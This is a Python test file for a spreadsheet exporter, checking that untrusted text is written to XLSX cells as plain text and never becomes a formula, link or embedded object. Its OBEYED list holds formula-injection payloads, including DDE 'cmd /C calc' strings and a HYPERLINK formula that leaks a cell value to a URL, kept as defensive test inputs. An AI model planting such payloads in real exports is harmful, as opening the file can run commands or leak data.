"""Whatever a source says stands in a workbook as text: no formula, no link, no command, nothing lost unseen."""

import dataclasses
import datetime as dt
import io
import re
import tempfile
import zipfile
from pathlib import Path

import openpyxl
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from lxml import etree

from ropa.export.handed_over import Frame, Paper
from ropa.export.pages import MOST_LINES, height, rows
from ropa.export.sheet_rows import Row
from ropa.export.styles import Style
from ropa.export.text import cell_text
from ropa.export.workbook import Book

MAIN = "{http://schemas.openxmlformats.org/spreadsheetml/2006/main}"
OBEYED = (
    "=1+1",
    "=cmd|' /C calc'!A0",
    "+cmd|'/C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    '=HYPERLINK("https://example.org/?leak="&A1,"click")',
    '=DDE("cmd";"/C calc";"x")',
    '=WEBSERVICE("https://example.org")',
    "＝1+1",
    "−1",
)
HARMLESS = (
    "https://example.org/a?b=c&d=e#f",
    "mailto:dpo@example.org",
    "javascript:alert(1)",
    "{=1+1}",
    "_x000D_ and _x0041_",
    "</t></is></c><c><f>1+1</f></c>",
    "&lt; ]]> <!-- -->",
    "  two spaces before and after  ",
    "👩‍👩‍👧‍👦 famille",
    "مرحبا بالعالم",
    "0367.303.366",
    "1E5",
    "2026-01-31",
    "TRUE",
    "#REF!",
    "first\nsecond",
)
FRAME = Frame("Sheet", (40,), ((1, [(Style.HEAD, "Words")]),), 1, Paper("A4", 1, "left & right", "right", "{0} of {1}"))
ESCAPE = re.compile("_x005F_(?=x[0-9A-Fa-f]{4}_)")
NOON = dt.datetime(2026, 1, 31, 12)  # noqa: DTZ001 - a workbook knows no zones


def workbook(*rows: Row) -> bytes:
    """Return a workbook of one sheet with these rows below its heading."""
    book, file = Book("Title", NOON), io.BytesIO()
    sheet = book.open(FRAME)
    sheet.add(rows)
    sheet.close()
    book.save(file)
    return file.getvalue()


def written(*texts: str) -> bytes:
    """Return a workbook with a text in each row."""
    return workbook(*((1, [(Style.TEXT, text)]) for text in texts))


def read(content: bytes) -> list[object]:
    """Return the cells of the first column below the heading, as openpyxl reads them, formulas included.

    A spreadsheet takes the escape of the format for what it stands for; openpyxl leaves it.
    """
    sheet = openpyxl.load_workbook(io.BytesIO(content)).worksheets[0]
    values = [row[0].value for row in sheet.iter_rows(min_row=2)]
    return [ESCAPE.sub("_", value) if isinstance(value, str) else value for value in values]


def cells(content: bytes) -> list["etree._Element"]:
    """Return the cells below the heading as they stand in the file."""
    with zipfile.ZipFile(io.BytesIO(content)) as parts:
        tree = etree.fromstring(parts.read("xl/worksheets/sheet1.xml"))
    return tree.findall(f".//{MAIN}c")[1:]


def quoted(content: bytes) -> list[bool]:
    """Return of each cell whether it bears the mark that keeps a text a text when somebody edits it."""
    with zipfile.ZipFile(io.BytesIO(content)) as parts:
        looks = etree.fromstring(parts.read("xl/styles.xml")).find(f"{MAIN}cellXfs")
    assert looks is not None
    return [looks[int(cell.get("s", "0"))].get("quotePrefix") == "1" for cell in cells(content)]


def test_no_text_becomes_a_formula_or_a_link() -> None:
    content = written(*OBEYED, *HARMLESS)
    found = cells(content)
    assert len(found) == len(OBEYED) + len(HARMLESS)
    assert {cell.get("t") for cell in found} == {"inlineStr"}
    assert {child.tag for cell in found for child in cell} == {f"{MAIN}is"}
    with zipfile.ZipFile(io.BytesIO(content)) as parts:
        tags = {
            etree.QName(element).localname
            for element in etree.fromstring(parts.read("xl/worksheets/sheet1.xml")).iter()
        }
        others = [name for name in parts.namelist() if "sheet1" in name and "rels" in name]
    assert tags & {"f", "hyperlink", "hyperlinks", "oleObjects", "drawing"} == set()
    assert others == []


def test_what_looks_like_a_formula_stays_text_when_it_is_edited() -> None:
    assert quoted(written(*OBEYED, *HARMLESS)) == [True] * len(OBEYED) + [False] * len(HARMLESS)


def test_openpyxl_reads_back_what_was_written() -> None:
    texts = [text for text in (*OBEYED, *HARMLESS) if "\r" not in text]
    assert read(written(*texts)) == texts


def test_a_character_that_steers_a_screen_or_that_xml_forbids_is_shown_as_a_mark() -> None:
    texts = ["a\x00b", "a\x1b[31mred", "a\u202eb", "a\ud800b", "a\ufffeb", "a\x7fb", "a\x85b", "a\r\nb\rc"]
    expected = ["a�b", "a�[31mred", "a�b", "a�b", "a�b", "a�b", "a\nb", "a\nb\nc"]
    assert read(written(*texts)) == expected


@settings(deadline=None, max_examples=60)
@given(st.text(st.characters(codec=None), max_size=200))
def test_any_text_comes_back_as_the_text_of_its_cell(text: str) -> None:
    content = written(text, "end")
    expected = cell_text(text)
    assert read(content) == [expected, "end"]
    assert {cell.get("t") for cell in cells(content)} == {"inlineStr"}


def test_days_are_days_and_numbers_are_numbers() -> None:
    day = dt.date(2018, 5, 25)
    content = workbook((1, [(Style.DAY, day)]), (1, [(Style.NUMBER, 42)]), (1, [(Style.TEXT, None)]))
    sheet = openpyxl.load_workbook(io.BytesIO(content)).worksheets[0]
    first, second, third = (sheet.cell(row, 1) for row in (2, 3, 4))
    assert (first.value, first.data_type, first.number_format) == (dt.datetime(2018, 5, 25), "d", "yyyy-mm-dd")  # noqa: DTZ001
    assert (second.value, second.data_type) == (42, "n")
    assert third.value is None


def test_a_text_that_is_too_long_for_a_row_goes_on_in_the_next_with_nothing_lost() -> None:
    text = " ".join(f"word{number}" for number in range(5_000))
    assert len(text) > 40_000
    parts = [list(items) for _, (items,) in rows([[text]], [40])]
    assert len(parts) > 20
    assert all(len(items) == 1 and height(items[0], 40) <= MOST_LINES for items in parts)
    pieces = [items[0] for items in parts]
    assert all(piece.endswith("…") for piece in pieces[:-1])
    assert all(piece.startswith("…") for piece in pieces[1:])
    assert "".join(piece.strip("…") for piece in pieces) == text


def test_a_sheet_that_is_full_goes_on_in_the_next(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr("ropa.export.workbook.MOST_ROWS", 4)
    book, file = Book("Title", NOON), io.BytesIO()
    first, other = book.open(FRAME), book.open(dataclasses.replace(FRAME, name="Other"))
    first.add((1, [(Style.TEXT, f"row {number}")]) for number in range(7))
    first.close()
    other.close()
    book.save(file)
    read_back = openpyxl.load_workbook(file)
    assert {sheet.title: [row[0].value for row in sheet.iter_rows()] for sheet in read_back.worksheets} == {
        "Sheet": ["Words", "row 0", "row 1", "row 2"],
        "Sheet (2)": ["Words", "row 3", "row 4", "row 5"],
        "Sheet (3)": ["Words", "row 6"],
        "Other": ["Words"],
    }


def test_nothing_is_left_of_a_workbook_that_is_discarded(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(tempfile, "tempdir", str(tmp_path))
    book = Book("Title", NOON)
    for name in ("closed", "open"):
        sheet = book.open(dataclasses.replace(FRAME, name=name))
        sheet.add([(1, [(Style.TEXT, "x")])])
        if name == "closed":
            sheet.close()
    assert list(tmp_path.iterdir()) != []
    book.discard()
    assert list(tmp_path.iterdir()) == []


ITEMS = st.lists(st.text(st.characters(exclude_characters="…"), min_size=1, max_size=3_000), max_size=40)


@settings(deadline=None)
@given(st.lists(st.tuples(ITEMS, st.integers(4, 120)), min_size=1, max_size=3))
def test_no_row_is_too_high_and_nothing_is_lost(columns: list[tuple[list[str], int]]) -> None:
    laid_out = list(rows([items for items, _ in columns], [room for _, room in columns]))
    assert laid_out
    for number, (items, room) in enumerate(columns):
        cell = [row[number] for _, row in laid_out]
        assert "".join(text.strip("…") for part in cell for text in part) == "".join(items)
        for (lines, _), part in zip(laid_out, cell, strict=True):
            assert sum(height(text, room) for text in part) <= lines <= MOST_LINES


@pytest.mark.parametrize("rest", ["", "&", "&&A", '&P &N &"Arial" &22'])
def test_a_name_commands_nothing_at_the_top_of_a_page(rest: str) -> None:
    paper = Paper("A3", 2, f"Body {rest}", "right", "{0} of {1}")
    book, file = Book("Title", NOON), io.BytesIO()
    opened = book.open(Frame("Sheet", (40, 20), FRAME.head, 1, paper))
    opened.add([(1, [(Style.TEXT, "x")])])
    opened.close()
    book.save(file)
    sheet = openpyxl.load_workbook(file).worksheets[0]
    with zipfile.ZipFile(file) as parts:
        told = etree.fromstring(parts.read("xl/worksheets/sheet1.xml")).findtext(f".//{MAIN}oddHeader")
    assert told == f"&L{f'Body {rest}'.strip().replace('&', '&&')}&Rright"
    assert (sheet.page_setup.orientation, sheet.page_setup.paperSize) == ("landscape", 8)
    assert (sheet.page_setup.fitToWidth, sheet.page_setup.fitToHeight) == (2, 0)
    assert (sheet.print_title_rows, sheet.print_title_cols) == ("$1:$1", "$A:$A")
    assert (sheet.freeze_panes, sheet.auto_filter.ref) == ("B2", "A1:B2")
    assert sheet.column_dimensions["A"].width == 40
